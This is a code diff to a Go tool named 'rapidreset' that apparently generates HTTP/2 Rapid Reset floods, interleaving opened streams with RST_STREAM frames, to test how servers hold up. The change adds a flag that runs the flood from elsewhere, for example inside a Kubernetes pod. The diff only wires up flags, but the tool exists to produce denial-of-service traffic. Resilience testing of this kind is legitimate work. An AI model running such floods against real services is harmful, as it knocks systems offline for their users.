@@ -67,6 +67,7 @@ type settings struct {
 	floodOnly   bool
 	floodCPUs   string
 	floodNice   int
+	floodVia    []string
 }
 
 func parseFlags() settings {
@@ -93,6 +94,7 @@ func parseFlags() settings {
 	flag.BoolVar(&s.withBody, "with-body", false, "send each stream's request message (an empty gRPC message, END_STREAM) before its RST_STREAM, so that a proxy that waits for whole requests forwards them")
 	flag.IntVar(&s.batch, "batch", 64, "streams opened per round before their resets are written")
 	flag.DurationVar(&s.gap, "gap", 0, "wait between a round's HEADERS and its RST_STREAMs; 0: each RST_STREAM follows its HEADERS at once")
+	floodVia := flag.String("flood-via", "", "space-separated command that runs this tool's flood process elsewhere, given the flood's arguments after it, e.g. \"kubectl exec -n attacker flood -- /flood/rapidreset\" (a flood from a pod); empty: this binary on this machine")
 	floodBind := flag.String("flood-bind", "", "comma-separated local addresses the flood's connections come from, one after another (e.g. 127.0.0.2,127.0.0.3: several sources on loopback); empty: the system's choice")
 	flag.BoolVar(&s.floodOnly, "flood-only", false, "only flood, for -duration, and print what was sent (no caller, no report); how the tool runs its own flood process")
 	flag.StringVar(&s.floodCPUs, "flood-cpus", "", "CPU list (taskset -c syntax) the flood process runs on, e.g. 1; empty: any")
@@ -105,6 +107,7 @@ func parseFlags() settings {
 	if *floodBind != "" {
 		s.floodBind = strings.Split(*floodBind, ",")
 	}
+	s.floodVia = strings.Fields(*floodVia)
 	if s.batch < 1 {
 		fmt.Fprintln(os.Stderr, "rapidreset: -batch must be at least 1")
 		os.Exit(2)
@@ -429,9 +432,16 @@ func startFlood(s settings) (*exec.Cmd, *bytes.Buffer, error) {
 	if err != nil {
 		return nil, nil, err
 	}
-	args := []string{self, "-flood-only", "-address", s.address, "-connections", strconv.Itoa(s.connections),
+	if len(s.floodVia) > 0 {
+		self = s.floodVia[0]
+	}
+	args := []string{self}
+	if len(s.floodVia) > 1 {
+		args = append(args, s.floodVia[1:]...)
+	}
+	args = append(args, "-flood-only", "-address", s.address, "-connections", strconv.Itoa(s.connections),
 		"-duration", s.flood.String(), "-path", s.path, "-tls=" + strconv.FormatBool(s.useTLS),
-		"-with-body=" + strconv.FormatBool(s.withBody), "-flood-bind", strings.Join(s.floodBind, ","), "-batch", strconv.Itoa(s.batch), "-gap", s.gap.String()}
+		"-with-body=" + strconv.FormatBool(s.withBody), "-flood-bind", strings.Join(s.floodBind, ","), "-batch", strconv.Itoa(s.batch), "-gap", s.gap.String())
 	if s.floodNice != 0 {
 		args = append([]string{"nice", "-n", strconv.Itoa(s.floodNice)}, args...)
 	}
